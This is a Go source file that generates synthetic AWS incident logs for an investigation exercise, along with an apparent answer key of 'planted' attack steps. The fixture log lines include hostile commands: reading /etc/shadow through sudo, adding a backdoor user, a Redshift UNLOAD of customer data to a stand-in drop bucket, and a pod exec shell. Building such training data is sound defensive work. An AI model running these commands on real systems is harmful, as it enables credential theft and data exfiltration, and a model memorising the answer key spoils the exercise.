package incident

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"time"

	"github.com/parquet-go/parquet-go"
)

// subscribed puts documents of CloudWatch Logs subscriptions into one file, each
// a gzip member, and counts one source's messages.
func (o *others) subscribed(source, name string, t time.Time, rows int, documents ...string) error {
	data, err := members(append([]string{controlMessage}, documents...)...)
	if err != nil {
		return err
	}
	o.put(fmt.Sprintf("firehose/%s/%s/%s-1-%s-%s", name, t.Format("2006/01/02/15"), name, t.Format("2006-01-02-15-04-05"), fixedUUID(name)), data)
	o.add(source, Load{Rows: rows})
	return nil
}

// functionsAndHosts are the logs of the shop's functions and of its first server.
func (o *others) functionsAndHosts() error {
	var lambda []string
	for i := range 30 {
		id := fixedUUID(fmt.Sprint("orders", i))
		lambda = append(lambda, "START RequestId: "+id+" Version: $LATEST\n", "END RequestId: "+id+"\n")
		if report := fmt.Sprintf("REPORT RequestId: %s\tDuration: %d.%02d ms\tBilled Duration: %d ms\tMemory Size: 256 MB\tMax Memory Used: %d MB\t", id, 20+i, i, 21+i, 80+i); i < 24 {
			lambda = append(lambda, report+"\n")
		} else {
			lambda = append(lambda, fmt.Sprintf("REPORT RequestId: %s\tDuration: 3000.00 ms\tBilled Duration: 3000 ms\tMemory Size: 256 MB\tMax Memory Used: 256 MB\tStatus: timeout\n", id))
		}
	}
	var auth []string
	for i := range 14 {
		auth = append(auth, fmt.Sprintf("Mar 11 01:12:%02d ip-10-0-1-10 sshd[%d]: Failed password for invalid user %s from %s port %d ssh2", i*4, 2100+i, []string{"admin", "ubuntu", "oracle"}[i%3], intruderHost, 50000+i))
	}
	auth = append(auth, "Mar 11 01:14:03 ip-10-0-1-10 sshd[2140]: Accepted publickey for ec2-user from "+intruderHost+" port 50100 ssh2: RSA SHA256:EXAMPLEEXAMPLE",
		"Mar 11 01:14:40 ip-10-0-1-10 sudo: ec2-user : TTY=pts/0 ; PWD=/home/ec2-user ; USER=root ; COMMAND=/bin/cat /etc/shadow",
		"Mar 11 01:15:10 ip-10-0-1-10 useradd[2160]: new user: name=svc-metrics, UID=1002, GID=1002, home=/home/svc-metrics, shell=/bin/bash, from=/dev/pts/0")
	if err := o.subscribed("cloudwatch_logs", "application-logs", at("11 01:20:00"), len(lambda)+len(auth),
		o.logEvents("/aws/lambda/shop-orders", "2026/03/10/[$LATEST]0123456789abcdef0123456789abcdef", at("10 15:00:00"), 37*time.Second, lambda),
		o.logEvents("/shop/secure", web1.instance, at("11 01:12:00"), 4*time.Second, auth)); err != nil {
		return err
	}
	o.planted("SSH", at("11 01:12:00"), at("11 01:13:04"), "ec2-user", intruderHost, "ip-10-0-1-10", "SSH names guessed, then a login with the pushed key", 15)
	insights := m{"results": [][]m{}, "statistics": m{"recordsMatched": 6}, "status": "Complete"}
	var rows [][]m
	for i := range 6 {
		rows = append(rows, []m{{"field": "@timestamp", "value": at("10 15:17:00").Add(time.Duration(i) * 90 * time.Second).Format("2006-01-02 15:04:05.000")}, {"field": "@message", "value": fmt.Sprintf("[ERROR]\t%s\t%s\tupstream 10.0.3.30 timed out", millis(at("10 15:17:00").Add(time.Duration(i)*90*time.Second)), fixedUUID(fmt.Sprint("orders", 24+i)))},
			{"field": "@log", "value": company + ":/aws/lambda/shop-orders"}, {"field": "@ptr", "value": fmt.Sprint("ptr", i)}})
	}
	insights["results"] = rows
	if err := o.file("cloudwatch_logs", "queries/insights-orders-errors.json", string(toJSON(insights)), 6); err != nil {
		return err
	}
	var api []string
	for i := range 25 {
		ip, status := "192.0.2.61", "200"
		if i >= 10 {
			ip, status = intruderIP, "403"
		}
		api = append(api, string(toJSON(m{"requestId": fixedUUID(fmt.Sprint("api", i)), "ip": ip, "requestTime": at("10 14:00:00").Add(time.Duration(i) * 11 * time.Second).Format("02/Jan/2006:15:04:05 +0000"), "httpMethod": "GET", "resourcePath": "/orders/{id}", "path": fmt.Sprint("/orders/", 4000+i), "status": status, "protocol": "HTTP/1.1", "responseLength": "512", "apiId": "a1b2c3d4e5", "stage": "prod", "userAgent": "python-requests/2.32"})))
	}
	return o.subscribed("api_gateway", "api-gateway", at("10 14:30:00"), len(api), o.logEvents("/aws/apigateway/orders", "prod", at("10 14:00:00"), 11*time.Second, api))
}

// databases are the audit logs of the orders cluster and of the warehouse.
func (o *others) databases() error {
	var audit []string
	entry := func(t time.Time, user, host, operation, object string, code int) {
		if object != "" {
			object = "'" + object + "'"
		}
		audit = append(audit, fmt.Sprintf("%d,orders-1,%s,%s,%d,%d,%s,shop,%s,%d", t.UnixMicro(), user, host, 30+len(audit)%7, len(audit), operation, object, code))
	}
	for i, t := range every(at("10 08:00:00"), 40, 23*time.Minute) {
		entry(t, "shop", web1.private, "QUERY", fmt.Sprintf("select * from orders where id = %d", 4000+i), 0)
	}
	for _, t := range every(at("11 04:05:00"), 12, 3*time.Second) {
		entry(t, "admin", web1.private, "FAILED_CONNECT", "", 1045)
	}
	entry(at("11 04:06:00"), "admin", web1.private, "CONNECT", "", 0)
	entry(at("11 04:06:30"), "admin", web1.private, "QUERY", "select * from customers", 0)
	if err := o.subscribed("rds_audit", "rds-audit", at("11 04:10:00"), len(audit), o.logEvents("/aws/rds/cluster/orders/audit", "orders-1.audit.log.0", at("10 08:00:00"), time.Minute, audit)); err != nil {
		return err
	}
	o.planted("RDS", at("11 04:05:00"), at("11 04:06:00"), "admin", web1.private, "/aws/rds/cluster/orders/audit", "Database passwords guessed from the first server", 13)
	var connections, users, activity strings.Builder
	stamp := func(t time.Time) string { return t.Format("Mon, 2 Jan 2006 15:04:05:000") }
	for i, t := range every(at("10 07:00:00"), 20, time.Hour) {
		fmt.Fprintf(&connections, "authenticated |%s|::ffff:10.8.0.4 |%d |%d|dev |analyst |IAM AssumeUser |0|TLSv1.3 |TLS_AES_256_GCM_SHA384 |0| | | |dbt | | | |3|%s|\n", stamp(t), 50000+i, 28000+i, fixedUUID(fmt.Sprint("rs", i)))
		fmt.Fprintf(&activity, "'%s UTC [ db=dev user=analyst pid=%d userid=101 xid=%d ]' LOG: select count(*)\nfrom orders\nwhere day = %d;\n", iso(t), 28000+i, 900+i, i)
	}
	fmt.Fprintf(&connections, "authenticated |%s|::ffff:%s |50999 |28999|dev |analyst |password |0|TLSv1.3 |TLS_AES_256_GCM_SHA384 |0| | | |psql | | | |3|%s|\n", stamp(at("11 04:20:00")), intruderHost, fixedUUID("rsx"))
	fmt.Fprintf(&activity, "'%s UTC [ db=dev user=analyst pid=28999 userid=101 xid=999 ]' LOG: UNLOAD ('select * from customers')\nTO 's3://example-drop-bucket/customers'\nIAM_ROLE default;\n", iso(at("11 04:21:00")))
	fmt.Fprintf(&users, "102 |svc_metrics | |create |0 |1 |0 | |28999|1000|%s|\n", stamp(at("11 04:22:00")))
	o.planted("RS", at("11 04:21:00"), at("11 04:21:00"), "analyst", "", "s3://example-drop-bucket", "The customers unloaded to the intruder's bucket", 1)
	for _, x := range []struct {
		kind, text string
		rows       int
	}{{"connectionlog", connections.String(), 21}, {"useractivitylog", activity.String(), 21}, {"userlog", users.String(), 1}} {
		if err := o.file("redshift_audit", fmt.Sprintf("AWSLogs/%s/redshift/%s/2026/03/11/%s_redshift_%s_warehouse_%s_2026-03-11T05_00.gz", company, home, company, home, x.kind), x.text, x.rows); err != nil {
			return err
		}
	}
	return nil
}

// cluster is the audit log of the Kubernetes cluster, in one file with the flow
// records of its network through CloudWatch Logs.
func (o *others) cluster() error {
	var events []string
	event := func(t time.Time, user, arn, ip, verb, uri, resource, sub string, code int) {
		u := m{"username": user, "groups": []string{"system:authenticated"}}
		if arn != "" {
			u["extra"] = m{"arn": []string{arn}, "accessKeyId": []string{"ASIAEXAMPLECLUSTER01"}}
		} else if user == "system:anonymous" {
			u["groups"] = []string{"system:unauthenticated"}
		}
		object := m{"resource": resource, "namespace": "shop", "apiVersion": "v1"}
		if sub != "" {
			object["subresource"], object["name"] = sub, "orders-0"
		}
		events = append(events, string(toJSON(map[string]any{"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": fixedUUID(uri + iso(t)), "stage": "ResponseComplete", "requestURI": uri, "verb": verb, "user": u, "sourceIPs": []string{ip}, "userAgent": "kubectl/v1.31.0",
			"objectRef": object, "responseStatus": m{"code": code}, "requestReceivedTimestamp": t.Format("2006-01-02T15:04:05.000000Z"), "stageTimestamp": t.Format("2006-01-02T15:04:05.002000Z"), "annotations": m{"authorization.k8s.io/decision": map[bool]string{true: "allow", false: "forbid"}[code < 400]}})))
	}
	for _, t := range every(at("10 08:00:00"), 30, 50*time.Minute) {
		event(t, "system:serviceaccount:shop:orders", "", "10.0.2.20", "get", "/api/v1/namespaces/shop/configmaps/orders", "configmaps", "", 200)
	}
	for _, t := range every(at("11 06:50:00"), 4, 20*time.Second) {
		event(t, "system:anonymous", "", intruderHost, "list", "/api/v1/namespaces/shop/pods", "pods", "", 403)
	}
	event(at("11 06:52:00"), "system:anonymous", "", intruderHost, "get", "/api/v1/namespaces/shop/services", "services", "", 200)
	event(at("11 06:55:00"), "deploy", sessionARN("DeployRole", "chain1"), intruderIP, "list", "/api/v1/secrets", "secrets", "", 200)
	event(at("11 06:57:00"), "deploy", sessionARN("DeployRole", "chain1"), intruderIP, "create", "/api/v1/namespaces/shop/pods/orders-0/exec?command=sh&stdin=true", "pods", "exec", 101)
	o.planted("I11", at("11 06:52:00"), at("11 06:52:00"), "system:anonymous", intruderHost, "", "The cluster answers somebody without credentials", 1)
	o.planted("K8S", at("11 06:55:00"), at("11 06:57:00"), sessionARN("DeployRole", "chain1"), intruderIP, "", "Secrets listed, a shell in a pod", 2)
	var flows []string
	for i, t := range every(at("10 08:00:00"), 30, 10*time.Minute) {
		flows = append(flows, fmt.Sprintf("2 %s eni-0a1b2c3d4e5f60401 10.7.0.%d 10.7.0.9 %d 443 6 12 9000 %d %d ACCEPT OK", company, 10+i%5, 41000+i, t.Unix(), t.Unix()+59))
	}
	if err := o.subscribed("eks_audit", "cluster", at("11 07:00:00"), len(events),
		o.logEvents("/aws/eks/shop/cluster", "kube-apiserver-audit-0123456789abcdef0123456789abcdef", at("10 08:00:00"), time.Minute, events),
		o.logEvents("/vpc/flow/cluster", "eni-0a1b2c3d4e5f60401-all", at("10 08:00:00"), 10*time.Minute, flows)); err != nil {
		return err
	}
	o.also("vpc_flow", Load{Rows: len(flows)})
	return nil
}

// lookups are answers a responder got by hand: the event history, and a query of
// the trail's table. All of it stands in the trail's files too.
func (o *others) lookups() error {
	var sample []placed
	for _, e := range o.b.events {
		if o.seen[e.Recipient+" "+e.EventID] && e.account == company && bytes.Contains(e.Identity, []byte(leakedKey)) && len(sample) < 40 {
			sample = append(sample, e)
		}
	}
	if len(sample) < 20 {
		return fmt.Errorf("only %d events of the leaked key", len(sample))
	}
	var events []m
	for _, e := range sample {
		events = append(events, m{"EventId": e.EventID, "EventName": e.Name, "ReadOnly": fmt.Sprint(e.ReadOnly), "AccessKeyId": leakedKey, "EventTime": e.Time.Unix(), "EventSource": e.Source + ".amazonaws.com", "Resources": []m{}, "CloudTrailEvent": string(e.Append(nil))})
	}
	o.put("queries/lookup-events-leaked-key.json", toJSON(m{"Events": events}))
	o.add("cloudtrail", Load{Duplicates: len(sample)})
	var csv strings.Builder
	csv.WriteString(`"eventversion","eventid","recipientaccountid","eventtime","eventsource","eventname","awsregion","sourceipaddress","useragent","errorcode","readonly"` + "\n")
	for _, e := range slices.Backward(sample) {
		code := ""
		if e.ErrorCode != "" {
			code = `"` + e.ErrorCode + `"`
		}
		fmt.Fprintf(&csv, "\"1.11\",\"%s\",\"%s\",\"%s\",\"%s.amazonaws.com\",\"%s\",\"%s\",\"%s\",\"%s\",%s,\"%t\"\n", e.EventID, e.Recipient, iso(e.Time), e.Source, e.Name, e.Region, e.SourceIP, strings.ReplaceAll(e.UserAgent, `"`, `""`), code, e.ReadOnly)
	}
	o.put("queries/athena/"+fixedUUID("athena")+".csv", []byte(csv.String()))
	o.add("cloudtrail", Load{Duplicates: len(sample)})
	return nil
}

// lakeRow is an event as Security Lake keeps it, as far as the story needs.
type lakeRow struct {
	Time     int64  `parquet:"time"`
	ClassUID int32  `parquet:"class_uid"`
	Class    string `parquet:"class_name"`
	Category int32  `parquet:"category_uid"`
	Activity int32  `parquet:"activity_id"`
	TypeUID  int64  `parquet:"type_uid"`
	Severity int32  `parquet:"severity_id"`
	Status   string `parquet:"status,optional"`
	Action   string `parquet:"action,optional"`
	Metadata struct {
		Version string `parquet:"version"`
		UID     string `parquet:"uid,optional"`
		Product struct {
			Name   string `parquet:"name"`
			Vendor string `parquet:"vendor_name"`
		} `parquet:"product"`
	} `parquet:"metadata"`
	Cloud struct {
		Region  string `parquet:"region"`
		Account struct {
			UID string `parquet:"uid"`
		} `parquet:"account"`
	} `parquet:"cloud"`
	API struct {
		Operation string `parquet:"operation,optional"`
		Service   struct {
			Name string `parquet:"name,optional"`
		} `parquet:"service"`
	} `parquet:"api"`
	Src struct {
		IP   string `parquet:"ip,optional"`
		Port int32  `parquet:"port,optional"`
	} `parquet:"src_endpoint"`
	Dst struct {
		IP   string `parquet:"ip,optional"`
		Port int32  `parquet:"port,optional"`
	} `parquet:"dst_endpoint"`
	Query struct {
		Hostname string `parquet:"hostname,optional"`
		Type     string `parquet:"type,optional"`
	} `parquet:"query"`
	Unmapped map[string]string `parquet:"unmapped"`
}

// lake is what Security Lake made of the beacon: calls, flows and names.
func (o *others) lake() error {
	row := func(t time.Time, class int32, name string, activity int32, product string) lakeRow {
		r := lakeRow{Time: t.UnixMilli(), ClassUID: class, Class: name, Category: class / 1000, Activity: activity, TypeUID: int64(class)*100 + int64(activity), Severity: 1, Unmapped: map[string]string{"source": product}}
		r.Metadata.Version, r.Metadata.Product.Name, r.Metadata.Product.Vendor, r.Metadata.UID = "1.1.0", product, "AWS", fixedUUID(name+iso(t))
		r.Cloud.Region, r.Cloud.Account.UID = home, company
		return r
	}
	byProduct := map[string][]lakeRow{}
	for _, t := range every(at("11 02:00:00"), 20, 5*time.Minute) {
		n := row(t, 4001, "Network Activity", 6, "VPC_FLOW")
		n.Src.IP, n.Src.Port, n.Dst.IP, n.Dst.Port, n.Action = web2.private, 40000, beaconIP, 443, "Allowed"
		d := row(t.Add(-time.Second), 4003, "DNS Activity", 6, "ROUTE53")
		d.Src.IP, d.Query.Hostname, d.Query.Type = web2.private, beaconName, "A"
		a := row(t, 6003, "API Activity", 2, "CLOUD_TRAIL_MGMT")
		a.Src.IP, a.API.Operation, a.API.Service.Name, a.Status = officeIP, "DescribeInstances", "ec2.amazonaws.com", "Success"
		byProduct["VPC_FLOW"], byProduct["ROUTE53"], byProduct["CLOUD_TRAIL_MGMT"] = append(byProduct["VPC_FLOW"], n), append(byProduct["ROUTE53"], d), append(byProduct["CLOUD_TRAIL_MGMT"], a)
	}
	for _, product := range []string{"CLOUD_TRAIL_MGMT", "ROUTE53", "VPC_FLOW"} {
		var out bytes.Buffer
		w := parquet.NewGenericWriter[lakeRow](&out, parquet.Compression(&parquet.Gzip), parquet.CreatedBy("logmaker", "1", "1"))
		if _, err := w.Write(byProduct[product]); err != nil {
			return fmt.Errorf("write parquet: %w", err)
		}
		if err := w.Close(); err != nil {
			return fmt.Errorf("write parquet: %w", err)
		}
		o.put(fmt.Sprintf("aws/%s/2.0/region=%s/accountId=%s/eventDay=20260311/%s.gz.parquet", product, home, company, fixedHex(product, 32)), out.Bytes())
		o.add("ocsf", Load{Rows: len(byProduct[product])})
	}
	return nil
}
